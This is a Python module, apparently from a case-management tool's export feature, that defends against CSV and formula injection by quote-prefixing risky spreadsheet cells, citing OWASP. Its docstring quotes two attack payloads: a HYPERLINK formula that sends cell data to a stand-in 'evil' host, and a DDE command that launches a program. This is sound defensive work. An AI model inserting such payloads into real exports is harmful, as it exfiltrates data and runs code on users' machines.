"""Nominative exports (issue 16, item 5): what makes a cell of a list of cases safe to open in a spreadsheet.

A name, an email or a search typed by someone may begin with a character a spreadsheet reads as the start of a
formula: `=`, `+`, `-`, `@`, and a tab or a carriage return before one of them (Excel strips leading whitespace
control characters then evaluates). Opened in Excel or LibreOffice, `=HYPERLINK("http://evil/?"&A2, "Voir")` or
`=cmd|' /C calc'!A0` (DDE) would run on the staff member's computer with their rights: CSV (or formula) injection.
OWASP's guidance (https://owasp.org/www-community/attacks/CSV_Injection) is to prefix such a cell with a single
quote, which every spreadsheet shows as text and never evaluates, and to quote every cell (the CSV writer does;
the .xlsx writer stores text cells as text). The same rule serves both formats: a workbook saved again as CSV
by the person keeps the quote.

The quote changes what the cell reads (`'-Marie`): it is what the guidance accepts, and a value starting with one
of these characters is rare in a list of cases (a phone number `+33…` would be the common one; none is exported).
"""

from __future__ import annotations

from enum import StrEnum

#: What a spreadsheet may run as a formula when a cell starts with it (OWASP, "CSV Injection"): the four formula
#: starts, and tab and carriage return, which Excel skips before reading one.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
#: What the guidance prefixes a dangerous cell with: a spreadsheet shows what follows as text.
QUOTE = "'"


def neutralised(value: str) -> str:
    """The text as a spreadsheet cell that no spreadsheet runs: prefixed with a quote when it starts as a formula
    could (FORMULA_STARTS), unchanged otherwise."""
    return QUOTE + value if value.startswith(FORMULA_STARTS) else value


class ExportKind(StrEnum):
    """What list was exported: cases (any filter of the board and the lists) or the cases at risk."""

    CASES = "cases"
    RISK = "risk"


class ExportFormat(StrEnum):
    """The file: CSV (for any tool) or an Excel workbook."""

    CSV = "csv"
    XLSX = "xlsx"
